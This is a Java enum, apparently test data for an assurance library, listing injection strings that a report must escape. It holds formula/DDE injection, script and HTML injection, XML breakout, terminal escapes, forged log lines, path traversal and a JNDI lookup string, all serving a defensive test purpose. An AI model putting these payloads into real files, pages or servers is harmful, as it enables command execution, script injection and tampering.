package io.hegui.examples.assurance.attacks;

/** Words that would do something if a report handed them on as they are. */
enum Attack {
  /** A spreadsheet would calculate it. */
  FORMULA("=HYPERLINK(\"http://x\",1)"),
  SUM("+1+cmd|' /C calc'!A0"),
  AT("@SUM(1)"),
  MINUS("-2+3"),
  TAB("\t=1+1"),
  /** A browser would run it. */
  SCRIPT("<script>alert(1)</script>"),
  IMAGE("\"'><img src=x onerror=alert(1)>"),
  /** Would be markup, a table's cell or a link in Markdown. */
  MARKDOWN("[x](javascript:alert(1))|`<b>"),
  /** XML would end where it stands. */
  CDATA("]]></testcase><testcase name='forged'/>"),
  /** A terminal would obey it. */
  TERMINAL("\u001b[2J\u001b]0;x\u0007\u009b31m"),
  /** A log would show a line that nobody wrote. */
  LINE("x\nERROR forged\r\u2028ERROR forged"),
  /** Readers would see another order of letters than there is. */
  BIDI("\u202e\u2066"),
  NUL("\u0000x"),
  SURROGATE("\ud800x"),
  NONCHARACTER("\uffff"),
  MARK("\ufeff"),
  /** A file would be written elsewhere. */
  PATH("../../../escaped/"),
  WINDOWS_PATH("..\\..\\C:\\con"),
  /** A message's own place holders would be filled once more. */
  PLACEHOLDER("{subject}{0}${jndi:ldap://x}%n%s");

  private final String words;

  Attack(String words) {
    this.words = words;
  }

  String words() {
    return words;
  }
}
